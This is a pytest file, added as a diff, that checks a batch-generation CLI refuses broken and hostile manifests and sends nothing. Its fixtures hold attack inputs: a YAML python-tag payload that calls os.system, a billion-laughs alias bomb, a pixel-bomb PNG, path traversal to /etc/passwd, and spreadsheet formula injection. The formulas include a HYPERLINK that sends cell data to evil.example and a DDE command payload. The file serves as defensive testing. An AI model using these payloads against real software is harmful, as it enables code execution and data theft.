@@ -1,0 +1,369 @@
+"""Hostile and broken input, as people really produce it and as an attacker might.
+
+Every case goes through the real CLI twice — ``batchgen validate`` and ``batchgen run``
+against the simulated API — and must end the same way: exit 2, a message naming the file
+(and the row and column where there is one), no traceback, nothing sent and no results file.
+
+Decisions recorded here:
+
+* a header with no rows (or a YAML with ``rows: []``) is an error, exit 2: far more often
+  the wrong file or sheet than a night with nothing to do;
+* a 60 MB reference image is a photo or render at its own resolution, so it fails as the
+  wrong size, before its bytes are uploaded anywhere (and an image claiming more pixels
+  than Pillow's bomb limit fails as such, without being decoded);
+* a file that is mostly UTF-8 but has bytes of another encoding fails at the first foreign
+  byte, with its row and column, instead of being decoded as GB18030 into fake Chinese.
+
+Large inputs (the 60 MB image, 100,000- and 1,000,000-character prompts) are generated in
+temporary folders, not committed.
+"""
+
+from __future__ import annotations
+
+import random
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import openpyxl
+import pytest
+from PIL import Image
+
+from batchgen.mock_server import RunningMock
+from tests.conftest import Invoke, make_image
+
+#: Builds a case's files in a folder and returns the manifest to run.
+Build = Callable[[Path], Path]
+
+
+@dataclass(frozen=True)
+class Case:
+    build: Build
+    expected: tuple[str, ...]  # every one must be in stderr; the first is file:row: column:
+
+
+def write(path: Path, data: bytes | str) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(data, str):
+        data = data.encode("utf-8")
+    path.write_bytes(data)
+    return path
+
+
+def image_row(name: str, image: str) -> Build:
+    def build(folder: Path) -> Path:
+        return write(folder / name, f"id,prompt,image\r\nshot-1,a red kite,{image}\r\n")
+
+    return build
+
+
+# --------------------------------------------------------------------------- spreadsheets
+
+
+def unbalanced_quotes(folder: Path) -> Path:
+    text = 'id,prompt\r\na,"fine, quoted"\r\nb,"never closed\r\nc,more\r\nd,and more\r\n'
+    return write(folder / "quotes.csv", text)
+
+
+def mixed_encodings(folder: Path) -> Path:
+    """A UTF-8 sheet with one row pasted from a Windows-1252 file. Decoded as GB18030 (what
+    Excel writes on Chinese Windows) it would be 'caf茅' and 'cr鑝e' and be paid for."""
+    return write(
+        folder / "mixed.csv",
+        "id,prompt,owner\r\na,café au lait on a table,zoë\r\n".encode()
+        + "b,crème brûlée with a torch,zoë\r\n".encode("cp1252")
+        + "c,naïve painting of a fox,zoë\r\n".encode(),
+    )
+
+
+def windows_1252(folder: Path) -> Path:
+    """A whole file in Windows-1252 ('CSV' from Excel on a Western Windows) that happens to
+    decode as GB18030."""
+    text = "id,prompt\r\na,plain words\r\nb,crème brûlée\r\n"
+    return write(folder / "western.csv", text.encode("cp1252"))
+
+
+def utf8_with_a_gbk_row(folder: Path) -> Path:
+    return write(
+        folder / "chinese.csv",
+        "id,prompt\r\na,一只纸船在雨中的街道上漂流\r\nb,夕阳下连绵起伏的山丘\r\n".encode()
+        + "c,城市夜景，霓虹灯闪烁\r\n".encode("gb18030"),
+    )
+
+
+def binary_named_csv(folder: Path) -> Path:
+    buffer = folder / "photo.jpg"
+    Image.new("RGB", (64, 64), (1, 2, 3)).save(buffer, "JPEG")
+    return write(folder / "binary.csv", buffer.read_bytes())
+
+
+def random_bytes_named_csv(folder: Path) -> Path:
+    data = random.Random(7).randbytes(4096).replace(b"\x00", b"\x01")  # no NUL to spot
+    return write(folder / "noise.csv", data)
+
+
+def zip_named_csv(folder: Path) -> Path:
+    with zipfile.ZipFile(folder / "archive.zip", "w") as archive:
+        archive.writestr("shots.csv", "prompt\r\na cat\r\n")
+    return write(folder / "zipped.csv", (folder / "archive.zip").read_bytes())
+
+
+def empty_file(folder: Path) -> Path:
+    return write(folder / "empty.csv", b"")
+
+
+def header_only(folder: Path) -> Path:
+    return write(folder / "header.csv", "id,prompt,image\r\n")
+
+
+def yaml_without_rows(folder: Path) -> Path:
+    return write(folder / "none.yaml", "profile: openai\nrows: []\n")
+
+
+def no_prompt_column(folder: Path) -> Path:
+    return write(folder / "noprompt.csv", "id,text,seconds\r\na,a cat,4\r\nb,a dog,8\r\n")
+
+
+def duplicate_headers(folder: Path) -> Path:
+    return write(folder / "dup.csv", "id,Prompt,seconds, PROMPT \r\na,a cat,4,a dog\r\n")
+
+
+def long_prompt(length: int) -> Build:
+    def build(folder: Path) -> Path:
+        return write(folder / "long.csv", f"id,prompt\r\na,short\r\nb,{'x' * length}\r\n")
+
+    return build
+
+
+# --------------------------------------------------------------------------- YAML
+
+
+def python_tag(folder: Path) -> Path:
+    marker = folder / "pwned"
+    text = f"rows:\n  - prompt: !!python/object/apply:os.system ['touch {marker}']\n"
+    return write(folder / "tag.yaml", text)
+
+
+def billion_laughs(folder: Path) -> Path:
+    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    lines += [
+        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)
+    ]
+    lines += ["rows:", "  - prompt: *i"]
+    return write(folder / "lol.yaml", "\n".join(lines) + "\n")
+
+
+# --------------------------------------------------------------------------- images
+
+
+def text_named_jpg(folder: Path) -> Path:
+    write(folder / "cat.jpg", "this is not a picture of a cat\n")
+    return image_row("textjpg.csv", "cat.jpg")(folder)
+
+
+def empty_image(folder: Path) -> Path:
+    write(folder / "empty.png", b"")
+    return image_row("zero.csv", "empty.png")(folder)
+
+
+def truncated_png(folder: Path) -> Path:
+    make_image(folder / "whole.png")
+    write(folder / "half.png", (folder / "whole.png").read_bytes()[:1500])
+    return image_row("trunc.csv", "half.png")(folder)
+
+
+def pixel_bomb(folder: Path) -> Path:
+    """A few bytes on disk whose header claims 100,000 x 100,000 pixels (10 billion)."""
+    make_image(folder / "tiny.png", (1, 1))
+    data = bytearray((folder / "tiny.png").read_bytes())
+    ihdr = data.index(b"IHDR")
+    data[ihdr + 4 : ihdr + 12] = struct.pack(">II", 100_000, 100_000)
+    crc = zlib.crc32(bytes(data[ihdr : ihdr + 17]))
+    data[ihdr + 17 : ihdr + 21] = struct.pack(">I", crc)
+    write(folder / "bomb.png", bytes(data))
+    return image_row("pixels.csv", "bomb.png")(folder)
+
+
+def sixty_megabytes(folder: Path) -> Path:
+    """A 60 MB PNG of noise (4,500 x 4,500): what a 60 MB image really is — a photo or
+    render at its own resolution, not the video's."""
+    side = 4500
+    noise = random.Random(60).randbytes(side * side * 3)
+    Image.frombytes("RGB", (side, side), noise).save(folder / "huge.png", compress_level=0)
+    assert (folder / "huge.png").stat().st_size > 60_000_000
+    return image_row("huge.csv", "huge.png")(folder)
+
+
+def dot_dot(folder: Path) -> Path:
+    make_image(folder.parent / f"{folder.name}-outside.png")
+    return image_row("dotdot.csv", f"../{folder.name}-outside.png")(folder)
+
+
+def absolute_outside(folder: Path) -> Path:
+    outside = make_image(folder.parent / f"{folder.name}-abs.png")
+    return image_row("abs.csv", str(outside))(folder)
+
+
+def system_file(folder: Path) -> Path:
+    return image_row("etc.csv", "/etc/passwd")(folder)
+
+
+def symlink_out(folder: Path) -> Path:
+    outside = make_image(folder.parent / f"{folder.name}-linked.png")
+    (folder / "inside.png").symlink_to(outside)
+    return image_row("link.csv", "inside.png")(folder)
+
+
+def symlinked_folder_out(folder: Path) -> Path:
+    outside = folder.parent / f"{folder.name}-elsewhere"
+    make_image(outside / "ref.png")
+    (folder / "refs").symlink_to(outside, target_is_directory=True)
+    return image_row("linkdir.csv", "refs/ref.png")(folder)
+
+
+# --------------------------------------------------------------------------- workbooks
+
+
+def workbook_formulas(folder: Path) -> Path:
+    """Formulas as openpyxl (or any tool but Excel) saves them: no stored result. One is a
+    classic injection payload; batchgen must neither evaluate nor send formula text."""
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.append(["id", "prompt", "seconds"])
+    sheet.append(["a", "a lighthouse", 4])
+    sheet.append(["b", '=HYPERLINK("http://evil.example/?"&A2,"click")', "=B2*2"])
+    sheet.append(["c", "=cmd|' /C calc'!A0", 8])
+    workbook.save(folder / "formulas.xlsx")
+    return folder / "formulas.xlsx"
+
+
+def workbook_merged_cells(folder: Path) -> Path:
+    """A prompt merged over two rows shows in both rows in Excel, but the file holds it in
+    the first only: the second row has no prompt."""
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    assert sheet is not None
+    sheet.append(["id", "prompt", "seconds", "campaign"])
+    sheet.append(["a", "one prompt for two shots", 4, "spring"])
+    sheet.append(["b", None, 8, None])
+    sheet.merge_cells("B2:B3")
+    sheet.merge_cells("D2:D3")
+    workbook.save(folder / "merged.xlsx")
+    return folder / "merged.xlsx"
+
+
+CASES = {
+    "unbalanced-quotes": Case(unbalanced_quotes, ("quotes.csv:3: unbalanced quotes",)),
+    "mixed-encodings": Case(
+        mixed_encodings, ("mixed.csv:3: prompt: byte 0xE8 is not UTF-8", "mixes text encodings")
+    ),
+    "windows-1252": Case(windows_1252, ("western.csv:3: prompt: byte 0xE8 is not UTF-8",)),
+    "utf8-with-a-gbk-row": Case(utf8_with_a_gbk_row, ("chinese.csv:4: prompt: byte 0x",)),
+    "jpeg-named-csv": Case(binary_named_csv, ("binary.csv: is binary, not text",)),
+    "noise-named-csv": Case(random_bytes_named_csv, ("noise.csv:", "not UTF-8")),
+    "zip-named-csv": Case(zip_named_csv, ("zipped.csv: is a zip file",)),
+    "empty-file": Case(empty_file, ("empty.csv: the file is empty",)),
+    "header-only": Case(header_only, ("header.csv: has no rows to send",)),
+    "yaml-no-rows": Case(yaml_without_rows, ("none.yaml: has no rows to send",)),
+    "no-prompt-column": Case(
+        no_prompt_column,
+        ("noprompt.csv:2: prompt: missing", "noprompt.csv:3: prompt: missing", "no prompt column"),
+    ),
+    "duplicate-headers": Case(duplicate_headers, ("dup.csv:1: prompt: duplicate column",)),
+    "prompt-100k": Case(long_prompt(100_000), ("long.csv:3: prompt: is 100,000 characters",)),
+    "prompt-1m": Case(long_prompt(1_000_000), ("long.csv:3: prompt: is 1,000,000 characters",)),
+    "yaml-python-tag": Case(python_tag, ("tag.yaml:2: not allowed in a manifest",)),
+    "yaml-alias-bomb": Case(billion_laughs, ("lol.yaml:2: YAML aliases",)),
+    "text-named-jpg": Case(text_named_jpg, ("textjpg.csv:2: image: cat.jpg: is not an image",)),
+    "empty-image": Case(empty_image, ("zero.csv:2: image: empty.png: the file is empty",)),
+    "truncated-png": Case(truncated_png, ("trunc.csv:2: image: half.png: the image data is",)),
+    "pixel-bomb": Case(pixel_bomb, ("pixels.csv:2: image: bomb.png: has too many pixels",)),
+    "image-60mb": Case(sixty_megabytes, ("huge.csv:2: image: image is 4500x4500 but size",)),
+    "dot-dot": Case(dot_dot, ("dotdot.csv:2: image: ../", "is outside the image folder")),
+    "absolute-path": Case(absolute_outside, ("abs.csv:2: image: /", "is outside the image")),
+    "etc-passwd": Case(system_file, ("etc.csv:2: image: /etc/passwd: is outside the image",)),
+    "symlink-out": Case(symlink_out, ("link.csv:2: image: inside.png: is outside the image",)),
+    "symlinked-folder": Case(symlinked_folder_out, ("linkdir.csv:2: image: refs/ref.png: is",)),
+    "xlsx-formulas": Case(
+        workbook_formulas,
+        (
+            "formulas.xlsx:3: cell B3 is a formula with no saved value",
+            "formulas.xlsx:3: cell C3 is a formula",
+            "formulas.xlsx:4: cell B4 is a formula",
+        ),
+    ),
+    "xlsx-merged-cells": Case(workbook_merged_cells, ("merged.xlsx:3: prompt: missing",)),
+}
+
+
+def check_refused(result_code: int, stdout: str, stderr: str, case: Case, folder: Path) -> None:
+    assert result_code == 2, stdout + stderr
+    assert "Traceback" not in stdout + stderr
+    for expected in case.expected:
+        assert expected in stderr, stderr
+    assert "nothing was sent" in stderr
+    assert len(stderr) < 5000  # a message, not the offending input echoed back
+    assert not list(folder.glob("*.results.csv"))
+    assert not (folder / "pwned").exists()
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("name", CASES)
+def test_validate_refuses_it_with_file_row_and_column(
+    tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    case = CASES[name]
+    folder = tmp_path / "batch"
+    folder.mkdir()
+    manifest = case.build(folder)
+    monkeypatch.chdir(folder)  # messages name files relative to the current folder
+    result = invoke("validate", manifest.name)
+    check_refused(result.exit_code, result.stdout, result.stderr, case, folder)
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.parametrize("name", CASES)
+def test_run_refuses_it_and_sends_nothing(
+    tmp_path: Path,
+    invoke: Invoke,
+    monkeypatch: pytest.MonkeyPatch,
+    mock_api: RunningMock,
+    name: str,
+) -> None:
+    case = CASES[name]
+    folder = tmp_path / "batch"
+    folder.mkdir()
+    manifest = case.build(folder)
+    monkeypatch.chdir(folder)
+    result = invoke("run", manifest.name, "--base-url", mock_api.base_url, "--rpm", "6000")
+    check_refused(result.exit_code, result.stdout, result.stderr, case, folder)
+    assert mock_api.state.create_requests == 0
+    assert sum(mock_api.state.requests_by_endpoint.values()) == 0
+
+
+def test_skip_invalid_does_not_turn_an_empty_manifest_into_success(
+    tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, mock_api: RunningMock
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    manifest = header_only(tmp_path)
+    result = invoke("run", manifest.name, "--base-url", mock_api.base_url, "--skip-invalid")
+    assert result.exit_code == 2
+    assert "has no rows to send" in result.stderr
+    assert mock_api.state.create_requests == 0
+
+
+def test_a_good_gb18030_sheet_is_still_read(
+    tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch, mock_api: RunningMock
+) -> None:
+    """The encoding checks above must not cost the Chinese-Windows users their CSVs."""
+    monkeypatch.chdir(tmp_path)
+    text = "id,prompt,owner\r\na,一只猫在窗台上晒太阳,张伟\r\nb,夕阳下连绵起伏的山丘,李明\r\n"
+    (tmp_path / "gbk.csv").write_bytes(text.encode("gb18030"))
+    result = invoke("run", "gbk.csv", "--base-url", mock_api.base_url, "--rpm", "6000")
+    assert result.exit_code == 0, result.output
+    prompts = sorted(mock_api.state.job_count_by_prompt())
+    assert prompts == sorted(["一只猫在窗台上晒太阳", "夕阳下连绵起伏的山丘"])
